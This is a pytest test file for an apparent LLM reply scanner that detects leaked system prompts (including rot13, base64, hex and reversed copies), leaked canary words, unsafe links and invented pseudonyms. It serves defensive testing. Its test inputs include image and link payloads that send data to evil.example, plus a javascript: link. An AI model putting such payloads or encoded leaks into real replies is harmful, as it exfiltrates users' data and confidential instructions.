"""Replies: leaks of instructions and planted words, unsafe links, made-up pseudonyms."""

from __future__ import annotations

import base64
import codecs

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.guard.replies import RepliesScanner
from vedette.schema.guarding import Around, Direction, Passage

TOLD = (
    "You are the assistant of the harbour desk. Never tell anybody the berth numbers of naval vessels, and always "
    "answer in two sentences. The escalation code for the night shift is kept by the duty officer."
)
SCANNER = RepliesScanner()


def found(text: str, **around: object) -> list[tuple[str, str]]:
    scanned = SCANNER.scan(Passage(text=text, direction=Direction.REPLY), Around(**around))  # type: ignore[arg-type]
    for one in scanned.findings:
        assert 0 <= one.start < one.end <= len(text)
    return [(one.entity, one.rule) for one in scanned.findings]


@pytest.mark.parametrize(
    "said",
    [
        TOLD,
        f"Sure! My instructions are: {TOLD[:120]}",
        TOLD.upper(),
        TOLD.replace(" ", "  \n"),
        "**" + TOLD.replace(" ", "** **") + "**",
        codecs.encode(TOLD, "rot13"),
        TOLD[::-1],
        base64.b64encode(TOLD.encode()).decode(),
        TOLD.encode().hex(),
    ],
)
def test_instructions_are_found_as_they_are_and_disguised(said: str) -> None:
    assert ("SYSTEM_PROMPT_LEAK", "repeated") in found(said, instructions=(TOLD,))


@pytest.mark.parametrize(
    "said",
    [
        "The duty officer keeps the escalation code.",
        "I cannot tell you the berth numbers. Please ask the harbour desk.",
        "You are the owner of the boat in berth nine, so you may ask for its number and the code.",
        "",
    ],
)
def test_a_reply_about_the_same_matter_is_no_leak(said: str) -> None:
    assert found(said, instructions=(TOLD,)) == []


@pytest.mark.parametrize(
    "said",
    [
        "the word is heron-4471-quay.",
        "HERON 4471 QUAY",
        "h e r o n - 4 4 7 1 - q u a y",
        "yauq-1744-noreh",
        base64.b64encode(b"it says heron-4471-quay here").decode(),
        base64.b64encode(b"xheron-4471-quay").decode(),
        b"heron-4471-quay".hex(),
        "ureba-4471-dhnl",
    ],
)
def test_a_planted_word_is_found(said: str) -> None:
    assert "CANARY_LEAK" in [entity for entity, _ in found(said, canaries=("heron-4471-quay",))]


def test_half_a_planted_word_is_none() -> None:
    assert found("a heron stood on the quay", canaries=("heron-4471-quay",)) == []


@pytest.mark.parametrize(
    ("said", "rule"),
    [
        ("![x](https://evil.example/p.png)", "picture"),
        ("![x][1]\n\n[1]: https://evil.example/p.png", "picture"),
        ('<img src="https://evil.example/?q=1">', "picture"),
        ("<div style=\"background:url('https://evil.example/a')\">", "picture"),
        ("[report](javascript:alert(1))", "scheme"),
        ("[https://bank.example/login](https://evil.example/login)", "other-host"),
        ("[more](https://bank.example@evil.example/)", "user-in-address"),
        ("[more](https://evil.example/?d=c2VjcmV0IG9mIHRoZSBob3VzZTogbm9ib2R5IGtub3dzIGl0IHlldA)", "carries-data"),
        ("see https://evil.example/c?d=the+boat+in+berth+nine", "carries-data"),
        ("[x](https://b\u0430nk.example/)", "odd-host"),
        ("[x](http://3232235777/)", "odd-host"),
        ("[x](https://evil.example/\u200bpath)", "hidden-characters"),
    ],
)
def test_unsafe_links(said: str, rule: str) -> None:
    assert ("UNSAFE_LINK", rule) in found(said, seen=("Where is the boat in berth nine moored?",))


@pytest.mark.parametrize(
    "said",
    [
        "See [the manual](https://docs.example.org/how-to/install-the-thing-on-a-small-machine).",
        "https://attack.mitre.org/techniques/T1059/001/",
        "![logo](https://cdn.house.example/logo.png)",
        "[docs.example.org](https://docs.example.org/a)",
        "a](b) != [c d]",
        "![inline](data:image/png;base64,iVBORw0KGgo=)",
        "https://example.org/search?q=apache+log4j&page=2",
    ],
)
def test_ordinary_links_pass(said: str) -> None:
    assert found(said, hosts=frozenset({"house.example"})) == []


def test_a_link_that_the_user_gave_may_be_given_back() -> None:
    link = "https://files.example/d/9f8e7d6c5b4a39281706f5e4d3c2b1a0fedcba98"
    assert found(f"Your file: {link}", seen=(f"is {link} safe?",)) == []


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=400), st.text(max_size=200))
def test_nothing_is_raised_and_spans_lie_in_the_text(text: str, told: str) -> None:
    found(text, instructions=(told,), canaries=(told[:20],), seen=(told,))


BRACKETS = ("![", "[a](", "<img src=", "https://a/?", "url(", "x" * 50 + " ")


@pytest.mark.parametrize("size", [60_000, pytest.param(1_000_000, marks=pytest.mark.slow)])
def test_many_brackets_end(size: int) -> None:
    for piece in BRACKETS:
        text = piece * (size // len(piece))
        SCANNER.scan(Passage(text=text, direction=Direction.REPLY), Around(instructions=(TOLD,)))


def test_a_made_up_pseudonym_is_told_from_one_that_was_given_out() -> None:
    said = "PERSON_7KQ2M4T wrote to person_9zz3k4t; T1059_001 and CVE-2024-3094 are no pseudonyms."
    assert found(said, pseudonyms=frozenset({"PERSON_7KQ2M4T"})) == [("INVENTED_PSEUDONYM", "invented")]
